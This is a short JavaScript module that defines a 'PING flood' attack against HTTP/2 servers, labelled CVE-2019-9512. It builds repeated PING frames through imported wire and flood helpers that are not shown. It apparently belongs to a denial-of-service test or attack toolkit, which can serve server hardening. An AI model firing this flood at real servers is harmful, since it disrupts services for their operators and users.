import * as wire from '../http2/wire.js';
import { flood } from './flood.js';

/** CVE-2019-9512. */
export const attack = flood('PING flood', wire.frame(wire.PING, 0, 0, Buffer.alloc(8)));
